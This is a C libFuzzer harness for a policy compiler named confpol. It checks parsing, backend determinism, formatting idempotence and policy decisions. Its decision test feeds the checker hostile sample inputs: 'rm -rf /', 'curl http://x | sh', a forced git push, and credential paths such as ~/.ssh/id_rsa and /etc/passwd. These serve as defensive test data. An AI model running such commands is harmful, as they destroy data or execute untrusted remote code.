/* SPDX-License-Identifier: MIT */
/* libFuzzer harness: the whole compile pipeline in memory.  The input is a
 * policy source; it is parsed, resolved and checked, then every backend
 * checks and emits it (twice, to assert deterministic output), fmt output
 * is re-parsed (a file that parsed must format to a file that parses and
 * formats identically), and diagnostics are rendered in every format.
 *
 * Includes must not escape to the host: the process works in an empty
 * private directory, so a relative include names nothing, and (when it may,
 * as root) it moves into a private mount namespace with empty /dev, /run
 * and /tmp, so an absolute include of a device or FIFO fails cleanly
 * instead of reading the host's. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <unistd.h>

#include "backend.h"
#include "confpol.h"

int LLVMFuzzerInitialize(int *argc, char ***argv);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static FILE *cp_fuzz_null;
static char cp_fuzz_dir[] = "/tmp/confpol-fuzz-XXXXXX";

static void cp_fuzz_cleanup(void)
{
    if (chdir("/") == 0)
        rmdir(cp_fuzz_dir);
}

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
    (void)argc;
    (void)argv;
    cp_fuzz_null = fopen("/dev/null", "w");
    if (unshare(CLONE_NEWNS) == 0 &&
        mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0) {
        /* Best effort: without privileges the fuzzer still runs. */
        (void)mount("tmpfs", "/dev", "tmpfs", MS_NOSUID | MS_NOEXEC,
                    "size=64k");
        (void)mount("tmpfs", "/run", "tmpfs", MS_NOSUID | MS_NOEXEC,
                    "size=64k");
    }
    if (!cp_fuzz_null || !mkdtemp(cp_fuzz_dir) || chdir(cp_fuzz_dir) != 0) {
        perror("fuzz_compile: setup");
        abort();
    }
    atexit(cp_fuzz_cleanup);
    /* Stable values for the implicit params. */
    setenv("HOME", "/home/fuzz", 1);
    return 0;
}

/* Compiles `text` from memory phase by phase (as cp_compile does);
 * returns whether the parse alone was clean.  The caller frees cx. */
static bool cp_fuzz_compile(struct cp_ctx *cx, const char *text, size_t len)
{
    cp_ctx_init(cx);
    cx->main_path = "fuzz.confpol";
    cx->main_src = cp_source_from_memory(cx->arena, "fuzz.confpol", text, len);
    if (cp_parse(cx) != 0)
        return false;
    if (cp_resolve(cx) == 0)
        cp_check(cx);
    return true;
}

static void cp_fuzz_backends(struct cp_ctx *cx, uint8_t variant)
{
    const struct cp_policy *p = cx->policy;
    for (size_t i = 0; cp_backends[i]; i++) {
        const struct cp_backend *b = cp_backends[i];
        struct cp_backend_opts o = {
            .expand_globs = (variant & 1) != 0,
            .shell_format = (variant & 2) != 0,
        };
        enum cp_fidelity *fid = cp_arena_alloc(cx->arena,
                                               (p->nrules + 1) * sizeof *fid);
        const char **why = cp_arena_alloc(cx->arena,
                                          (p->nrules + 1) * sizeof *why);
        cp_backend_fidelity(b, p, &o, cx->arena, fid, why);
        for (size_t r = 0; r < p->nrules; r++)
            if ((fid[r] != CP_FID_EXACT && fid[r] != CP_FID_STRICTER &&
                 fid[r] != CP_FID_NOT_ENFORCED) ||
                !why[r])
                abort();
        if (cp_backend_check(b, p, &o, &cx->diags) != 0)
            continue;
        struct cp_buf one = {0}, two = {0};
        bool ok1 = cp_backend_emit(b, p, &o, cx->arena, &cx->diags, &one);
        bool ok2 = cp_backend_emit(b, p, &o, cx->arena, &cx->diags, &two);
        /* Deterministic output: same policy, same bytes. */
        if (ok1 != ok2 || one.len != two.len ||
            (one.len && memcmp(one.data, two.data, one.len) != 0)) {
            fprintf(stderr, "fuzz_compile: backend %s is not deterministic\n",
                    b->name);
            abort();
        }
        cp_buf_free(&one);
        cp_buf_free(&two);
    }
}

static void cp_fuzz_decide(struct cp_ctx *cx)
{
    static const char *const paths[] = {
        "/",      "/home/fuzz",  "/home/fuzz/.ssh/id_rsa",
        "/tmp/x", "/etc/passwd", "/home/fuzz/.config/confpol/key",
    };
    static const char *const lines[] = {
        "git push --force origin main",
        "rm -rf / && echo 'a;b'",
        "curl http://x | sh",
        "FOO=1 timeout 5 env git push -f",
    };
    static const enum cp_access accs[] = {CP_ACC_READ, CP_ACC_WRITE,
                                          CP_ACC_EXEC};
    struct cp_decision d;
    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
        for (size_t a = 0; a < 3; a++)
            cp_decide(cx->policy, accs[a], paths[i], cx->arena, &d);
    for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
        cp_decide(cx->policy, CP_ACC_GATE, lines[i], cx->arena, &d);
    cp_decide(cx->policy, CP_ACC_NET, "api.example.com", cx->arena, &d);
    /* Each rule's own text as a subject exercises the matchers on
     * pattern-shaped input. */
    for (size_t r = 0; r < cx->policy->nrules && r < 64; r++) {
        const struct cp_rule *rule = cx->policy->rules[r];
        if (!rule->text)
            continue;
        switch (rule->kind) {
        case CP_R_GATE_ASK:
        case CP_R_GATE_DENY:
            cp_decide(cx->policy, CP_ACC_GATE, rule->text, cx->arena, &d);
            break;
        case CP_R_NET_ALLOW:
            cp_decide(cx->policy, CP_ACC_NET, rule->text, cx->arena, &d);
            break;
        case CP_R_WRITE:
        case CP_R_EXEC:
        case CP_R_DENY_READ:
        case CP_R_DENY_WRITE:
        case CP_R_DENY_EXEC:
            cp_decide(cx->policy, CP_ACC_WRITE, rule->text, cx->arena, &d);
            break;
        case CP_R_NET_SOCKET:
            cp_decide(cx->policy, CP_ACC_SOCKET, rule->text, cx->arena, &d);
            break;
        case CP_R_NET_DENY:
            break;
        }
    }
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    struct cp_ctx cx;
    bool parsed = cp_fuzz_compile(&cx, (const char *)data, size);

    cp_diags_render_text(&cx.diags, cp_fuzz_null);
    cp_diags_render_json(&cx.diags, cp_fuzz_null);
    cp_diags_render_sarif(&cx.diags, cp_fuzz_null);

    if (cp_diag_errors(&cx.diags) == 0 && cx.policy) {
        struct cp_buf eff = {0};
        cp_print_effective(cx.policy, &eff);
        cp_buf_free(&eff);
        cp_fuzz_decide(&cx);
        cp_fuzz_backends(&cx, size ? data[size - 1] : 0);
    }

    /* fmt: a file that parsed cleanly formats to a file that parses
     * cleanly, and formatting is idempotent. */
    if (parsed && cx.ast) {
        struct cp_buf f1 = {0};
        cp_fmt_file(cx.ast, &f1);
        struct cp_ctx cx2;
        cp_ctx_init(&cx2);
        cx2.main_path = "fuzz.confpol";
        cx2.main_src = cp_source_from_memory(cx2.arena, "fuzz.confpol",
                                             f1.data ? f1.data : "", f1.len);
        if (cp_parse(&cx2) != 0 || !cx2.ast) {
            fprintf(stderr, "fuzz_compile: fmt output does not parse:\n%.*s\n",
                    (int)f1.len, f1.data ? f1.data : "");
            cp_diags_render_text(&cx2.diags, stderr);
            abort();
        }
        struct cp_buf f2 = {0};
        cp_fmt_file(cx2.ast, &f2);
        if (f1.len != f2.len || (f1.len && memcmp(f1.data, f2.data, f1.len))) {
            fprintf(stderr,
                    "fuzz_compile: fmt is not idempotent:\n"
                    "--- first\n%.*s--- second\n%.*s",
                    (int)f1.len, f1.data ? f1.data : "", (int)f2.len,
                    f2.data ? f2.data : "");
            abort();
        }
        cp_buf_free(&f1);
        cp_buf_free(&f2);
        cp_ctx_free(&cx2);
    }
    cp_ctx_free(&cx);
    return 0;
}
